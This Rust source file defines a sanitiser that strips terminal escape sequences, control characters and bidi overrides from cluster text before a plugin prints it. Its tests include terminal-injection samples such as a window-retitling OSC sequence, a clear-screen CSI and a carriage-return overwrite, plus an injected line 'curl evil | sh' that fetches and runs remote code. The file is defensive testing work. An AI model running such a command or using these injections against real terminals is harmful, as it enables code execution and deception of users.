//! Text from the cluster, made safe for a terminal. Anyone who may write a VncSession's spec, its
//! status or an Event in the namespace chooses these bytes; an escape sequence in them could
//! recolour, move the cursor, retitle the window or rewrite lines already shown, and a bidi
//! override could reorder what the user reads. Every string the plugin prints that came from the
//! cluster goes through [`clean`].

/// What stands in for a character that must not reach the terminal: visible, one column wide,
/// and plainly not part of the original text.
const REPLACEMENT: char = '\u{FFFD}';

/// `text` with nothing a terminal acts on: line and tab breaks become a space (so one value stays
/// one line, one table cell stays one cell); other C0 controls (ESC, BS, BEL, NUL …), DEL, C1
/// controls and the bidi embedding, override and isolate characters become U+FFFD. Everything
/// else, CJK and emoji included, is kept as it is.
pub fn clean(text: &str) -> String {
    text.chars()
        .map(|c| match c {
            '\t' | '\n' | '\u{0B}' | '\u{0C}' | '\r' | '\u{85}' | '\u{2028}' | '\u{2029}' => ' ',
            '\u{00}'..='\u{1F}' | '\u{7F}'..='\u{9F}' => REPLACEMENT,
            // LRM, RLM, ALM: invisible marks that also move neutral characters around.
            '\u{200E}' | '\u{200F}' | '\u{061C}' => REPLACEMENT,
            '\u{202A}'..='\u{202E}' | '\u{2066}'..='\u{2069}' => REPLACEMENT,
            c => c,
        })
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn plain_and_multi_byte_text_is_kept() {
        for text in [
            "",
            "INC-42: disk full on i-bp1hzoinajzkh91h1234",
            "磁盘已满，需要登录控制台",
            "ディスク 😀 café naïve",
            "https://g.alicdn.com/a?b=c%20d&e=f",
        ] {
            assert_eq!(clean(text), text);
        }
    }

    #[test]
    fn escape_sequences_lose_their_escape() {
        assert_eq!(
            clean("\u{1b}[31mred\u{1b}[0m"),
            "\u{FFFD}[31mred\u{FFFD}[0m"
        );
        // An OSC that would retitle the window or plant a hyperlink.
        assert_eq!(clean("\u{1b}]0;pwned\u{07}x"), "\u{FFFD}]0;pwned\u{FFFD}x");
    }

    #[test]
    fn every_c0_control_del_and_c1_control_is_replaced() {
        let breaks = ['\t', '\n', '\u{0B}', '\u{0C}', '\r', '\u{85}'];
        for c in ('\u{00}'..='\u{1F}').chain('\u{7F}'..='\u{9F}') {
            let want = if breaks.contains(&c) { " " } else { "\u{FFFD}" };
            assert_eq!(clean(&c.to_string()), want, "U+{:04X}", c as u32);
        }
        // The 8-bit CSI, which some terminals still honour.
        assert_eq!(clean("a\u{9b}2Jb"), "a\u{FFFD}2Jb");
    }

    #[test]
    fn carriage_returns_and_backspaces_cannot_rewrite_what_is_shown() {
        assert_eq!(clean("all good\rFAILED"), "all good FAILED");
        assert_eq!(
            clean("Failed\u{08}\u{08}\u{08}"),
            "Failed\u{FFFD}\u{FFFD}\u{FFFD}"
        );
    }

    #[test]
    fn line_breaks_and_tabs_keep_a_value_on_one_line() {
        assert_eq!(clean("a\nb\tc\r\nd"), "a b c  d");
        assert_eq!(clean("a\u{2028}b\u{2029}c"), "a b c");
        assert!(!clean("x\n  fix:     curl evil | sh").contains('\n'));
    }

    #[test]
    fn bidi_controls_cannot_reorder_the_text() {
        for c in ('\u{202A}'..='\u{202E}').chain('\u{2066}'..='\u{2069}') {
            assert_eq!(clean(&format!("a{c}b")), "a\u{FFFD}b", "U+{:04X}", c as u32);
        }
        for c in ['\u{200E}', '\u{200F}', '\u{061C}'] {
            assert_eq!(clean(&format!("a{c}b")), "a\u{FFFD}b", "U+{:04X}", c as u32);
        }
        // Arabic and Hebrew letters themselves stay.
        assert_eq!(clean("שלום مرحبا"), "שלום مرحبا");
    }

    #[test]
    fn cleaning_twice_changes_nothing_more() {
        let dirty = "\u{1b}[2J\r\u{202E}evil\u{2066}\t\u{9b}磁盘";
        assert_eq!(clean(&clean(dirty)), clean(dirty));
    }
}
